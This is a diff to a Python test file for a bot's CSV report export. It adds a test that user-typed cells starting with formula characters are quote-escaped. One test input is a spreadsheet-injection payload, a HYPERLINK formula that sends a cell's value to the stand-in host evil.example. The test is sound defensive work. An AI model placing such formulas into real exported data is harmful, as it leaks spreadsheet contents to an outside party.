@@ -11,7 +11,7 @@ from datetime import UTC, datetime, timedelta
 import pytest
 
 from bot.cli import main
-from bot.commands.tables import render_table, since_argument, width, window_start
+from bot.commands.tables import render_csv, render_table, since_argument, width, window_start
 from knowledge.normalise import normalise
 from storage import db
 from storage.knowledge import KnowledgeRepository
@@ -127,6 +127,14 @@ def test_feedback_report_as_table_and_csv(database: str, capsys: Capture) -> Non
     assert main(["report", "feedback", "--format", "csv", "--since", last_month]) == 0
     rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
     assert (rows[0]["entry_id"], rows[0]["helpful_rate"]) == ("tax-property-pay", "0.333")
+
+
+@pytest.mark.parametrize(
+    "typed", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\t=1"]
+)
+def test_csv_cells_a_citizen_typed_are_never_formulas_to_a_spreadsheet(typed: str) -> None:
+    _, row = list(csv.reader(io.StringIO(render_csv(["question", "count"], [(typed, -3)]), newline="")))
+    assert row == ["'" + typed, "-3"]  # text kept whole behind the quote; numbers stay numbers
 
 
 def test_reports_on_an_empty_database(capsys: Capture) -> None:
